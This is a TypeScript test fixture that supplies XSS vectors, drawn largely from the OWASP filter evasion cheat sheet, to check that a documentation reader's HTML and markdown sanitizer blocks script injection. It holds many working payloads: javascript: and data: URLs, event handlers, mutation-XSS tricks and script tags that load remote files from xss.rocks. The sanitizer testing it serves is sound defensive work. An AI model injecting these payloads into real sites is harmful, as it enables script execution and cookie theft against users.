/**
 * Script-injection vectors published through the reader: the OWASP XSS Filter Evasion
 * Cheat Sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
 * as raw HTML in a page, plus the same URL tricks as markdown links, images, autolinks,
 * reference links, embeds and content refs. Payloads set `window.__xss` and call alert(),
 * so a browser test notices any that runs. Each vector is one page: an unclosed tag in
 * one cannot hide the next from the checks.
 */

const RUN = 'window.__xss=1;alert(1)';

/** Markdown link and image targets (each used as `[xss](…)` and `![xss](…)`). */
export const URL_VECTORS = [
  'javascript:alert(1)',
  'java&#9;script:alert(1)',
  'java&#x09;script:alert(1)',
  'java&#10;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  '<javascript:alert(1)>',
  '< javascript:alert(1)>',
  'javascript://%0aalert(1)',
  '&#14;javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
];

export const MARKDOWN_VECTORS = [
  ...URL_VECTORS.flatMap((url) => [`[xss](${url})`, `![xss](${url})`]),
  '<javascript:alert(1)>',
  '[xss][evil]\n\n[evil]: javascript:alert(1)',
  '[xss](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '[xss](https://example.com) `"><script>alert(1)</script>`',
  'text <img src=x onerror="window.__xss=1;alert(1)"> text',
  'hover <span onmouseover="alert(1)">here</span> and <a href="javascript:alert(1)">xss</a>',
  '{% embed url="javascript:alert(1)" %}',
  '{% embed url="data:text/html,<script>alert(1)</script>" %}',
  '{% content-ref url="javascript:alert(1)" %}\n[xss](javascript:alert(1))\n{% endcontent-ref %}',
  // Inside blocks whose parts are fragments (an expandable's title and body, a caption).
  '<details>\n\n<summary>Open <img src=x onerror="alert(1)"></summary>\n\nBody <img src=x onerror="alert(1)"> and [xss](javascript:alert(1)).\n\n</details>',
  '<figure><img src="https://example.com/a.png" alt="a"><figcaption><p>Caption <a href="javascript:alert(1)">xss</a> <img src=x onerror="alert(1)"></p></figcaption></figure>',
  // Kept as written for Git: an unknown tag, an integration block's values.
  '{% unknown-tag x="<img src=x onerror=alert(1)>" %}',
  '{% @mermaid/diagram content="<img src=x onerror=alert(1)>" %}',
];

/** Raw HTML blocks of a page (OWASP cheat sheet, in its order, and newer browser tricks). */
export const HTML_VECTORS = [
  `<script>${RUN}</script>`,
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  `<IMG SRC="javascript:${RUN};">`,
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xss link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  `<IMG SRC=/ onerror="${RUN}"></img>`,
  '<img src=x:alert(alt) onerror=eval(src) alt=xss>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(\'XSS\')>',
  `<svg><script>${RUN}</script></svg>`,
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">xss</text></a></svg>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss=1;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="  javascript:alert(1)">xss</a>',
  '<a href="&#1;javascript:alert(1)">xss</a>',
  '<a href="javas&#99;ript:alert(1)">xss</a>',
  '<a href="java\nscript:alert(1)">xss</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">xss</a>',
  '<a href="vbscript:msgbox(1)">xss</a>',
  '<a href="x" onclick="window.__xss=1;alert(1)">xss</a>',
  '<form action="javascript:alert(1)"><button>xss</button></form>',
  '<button formaction="javascript:alert(1)">xss</button>',
  '<details open ontoggle="window.__xss=1;alert(1)"><summary>xss</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>xss</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">xss</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)"></object>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror=alert(1)//',
  '<div id="x"><a href="javascript:alert(1)" id="x">xss</a><img name="getElementById" src="https://example.com/x.png"></div>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '"><script>alert(1)</script>',
  '\'--><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

/** Raw HTML that must render as elements (not as code), through the same sanitizer. */
export const BENIGN_HTML = `# Benign HTML

<details>
<summary>More details</summary>

Hidden **text** inside.

</details>

Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, note<sup>1</sup> and H<sub>2</sub>O.<br>New line.

<figure><img src="http://example.com/photo.png" alt="A photo"><figcaption>A caption</figcaption></figure>

<table>
<thead><tr><th>Name</th><th>Value</th></tr></thead>
<tbody><tr><td>port</td><td>8080</td></tr></tbody>
</table>

| Left | Right |
|:-----|------:|
| a    | b     |
`;

/** Every vector as the markdown of one page. */
export function vectorPages(): string[] {
  return [
    ...MARKDOWN_VECTORS.map((md, i) => `# Markdown vector ${i}\n\n${md}\n`),
    ...HTML_VECTORS.map((html, i) => `# HTML vector ${i}\n\n${html}\n`),
  ];
}
